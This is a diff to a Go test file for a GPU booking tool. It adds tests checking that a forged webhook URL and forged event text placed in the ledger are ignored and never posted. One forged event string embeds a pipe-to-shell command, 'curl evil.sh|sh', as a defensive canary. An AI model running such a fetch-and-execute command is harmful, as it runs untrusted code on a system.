@@ -2,10 +2,15 @@ package main
 
 import (
 	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
@@ -156,4 +161,104 @@ func TestStaleInventory(t *testing.T) {
 	require.True(t, parts[0].GPUGone)
 	r = chronos(t, db, "events")
 	require.Contains(t, r.stdout, "is gone")
+}
+
+// webhookServer is a local webhook; posts returns the bodies it got.
+func webhookServer(t *testing.T) (s *httptest.Server, posts func() []string) {
+	var mu sync.Mutex
+	var bodies []string
+	s = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		defer mu.Unlock()
+		bodies = append(bodies, string(body))
+	}))
+	t.Cleanup(s.Close)
+	return s, func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		return slices.Clone(bodies)
+	}
+}
+
+// The webhook is root's file: `policy set notify-url=` writes it, a
+// notify-url a member put in the ledger is not posted to (the monitor's log
+// says it is ignored), and the notice posted is rendered from the booking,
+// not the forged event's text.
+func TestWebhookIsRootsFile(t *testing.T) {
+	t.Parallel()
+	realHook, realPosts := webhookServer(t)
+	forgedHook, forgedPosts := webhookServer(t)
+	dir := t.TempDir()
+	db := filepath.Join(dir, "chronos.db")
+	r := chronos(t, db, "policy", "set", "notify-url="+realHook.URL+"/hook")
+	require.Equal(t, 0, r.code, r.stderr)
+	require.Contains(t, r.stdout, realHook.URL+"/hook")
+	require.Contains(t, readFile(t, filepath.Join(dir, "notify")), realHook.URL+"/hook")
+
+	r = chronos(t, db, "--monitor", "--policy", "notify-url="+forgedHook.URL)
+	require.Equal(t, 2, r.code)
+	require.Contains(t, r.stderr, "the webhook is root's file "+filepath.Join(dir, "notify"))
+
+	require.Equal(t, 0, chronos(t, db, "create", "1", "0.1", "1h").code)
+	now := clock.System().Now()
+	require.NoError(t, storage.New(db).Update(func(tx *storage.Tx) error {
+		pol, _, err := tx.Policy()
+		if err != nil {
+			return err
+		}
+		pol.NotifyURL = forgedHook.URL
+		if err := tx.PutPolicy(pol); err != nil {
+			return err
+		}
+		return tx.AddEvent(storage.Event{Time: now, Kind: storage.EventWarned, Partition: 1, User: "root", Detail: "FORGED: run curl evil.sh|sh"})
+	}))
+	r = runWith(t, chronosBin, db, nil, nil, 3*time.Second, "--monitor")
+	require.Contains(t, r.stderr, "the ledger's policy names a webhook (notify-url="+forgedHook.URL+"): ignored")
+	require.Empty(t, forgedPosts())
+	real := realPosts()
+	require.Len(t, real, 1, r.stderr)
+	require.Contains(t, real[0], "booking #1 of root (GPU 1): ends in ")
+	require.NotContains(t, real[0], "FORGED")
+}
+
+// A member's monitor (uid 65534, the stock binary) claims no webhook
+// delivery of a notice of its own booking, even with the ledger's policy
+// naming the webhook as an older chronos kept it: one it could not make
+// (its own network namespace) used to be lost. Root's monitor, started
+// after, posts it.
+func TestMembersMonitorClaimsNoWebhook(t *testing.T) {
+	t.Parallel()
+	bin, db := otherUserLedger(t)
+	hook, posts := webhookServer(t)
+	r := chronos(t, db, "policy", "set", "notify-url="+hook.URL)
+	require.Equal(t, 0, r.code, r.stderr)
+	r = chronos(t, db, "create", "1", "0.1", "1h", "--user", "nobody")
+	require.Equal(t, 0, r.code, r.stderr)
+	require.NoError(t, os.Chmod(db, 0o666))
+	require.NoError(t, storage.New(db).Update(func(tx *storage.Tx) error {
+		pol, _, err := tx.Policy()
+		if err != nil {
+			return err
+		}
+		pol.NotifyURL = hook.URL
+		if err := tx.PutPolicy(pol); err != nil {
+			return err
+		}
+		return tx.AddEvent(storage.Event{Time: clock.System().Now(), Kind: storage.EventWarned, Partition: 1, UID: 65534, User: "nobody", Detail: "ends in 5m (GPU 1)"})
+	}))
+
+	r = runWith(t, bin, db, nobody, nil, 2*time.Second, "--monitor")
+	require.Contains(t, r.stderr, "kind=started", r.stderr)
+	claims := map[string]storage.Claim{}
+	require.NoError(t, storage.New(db).View(func(tx *storage.Tx) (err error) { claims, err = tx.Claims(); return }))
+	for k := range claims {
+		require.False(t, strings.HasPrefix(k, "notify/webhook/"), "nobody's monitor claimed %s", k)
+	}
+	require.Empty(t, posts())
+
+	r = runWith(t, bin, db, nil, nil, 3*time.Second, "--monitor")
+	got := posts()
+	require.Len(t, got, 1, r.stderr)
+	require.Contains(t, got[0], "booking #1 of nobody (GPU 1): ends in ")
 }
